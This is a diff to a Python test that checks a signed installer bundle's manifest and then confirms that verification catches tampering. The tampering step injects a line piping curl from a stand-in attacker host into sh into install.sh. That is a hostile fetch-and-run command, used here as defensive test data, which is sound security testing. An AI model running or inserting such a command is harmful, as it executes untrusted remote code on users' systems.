@@ -11,8 +11,14 @@ from tests.helpers.keys import KeyPair
 
 
 def test_installer_files_are_signed_and_checked_by_verify(cli: Cli, bundle: Path, keypair: KeyPair) -> None:
-    listed = {f["path"] for f in json.loads((bundle / "manifest.json").read_text())["files"]}
-    assert listed == {"installer/install.sh", "installer/docker-linux-amd64.plan", "installer/docker-linux-amd64.blocks"}
+    files = json.loads((bundle / "manifest.json").read_text())["files"]
+    listed = {f["path"] for f in files if f["path"].startswith("installer/")}
+    assert listed == {
+        "installer/install.sh",
+        "installer/audit.sh",
+        "installer/docker-linux-amd64.plan",
+        "installer/docker-linux-amd64.blocks",
+    }
     script = bundle / "installer" / "install.sh"
     script.write_text(script.read_text().replace("set -u", "set -u\ncurl evil.example | sh"))
     r = cli("verify", str(bundle), "--trust", str(keypair[1]))
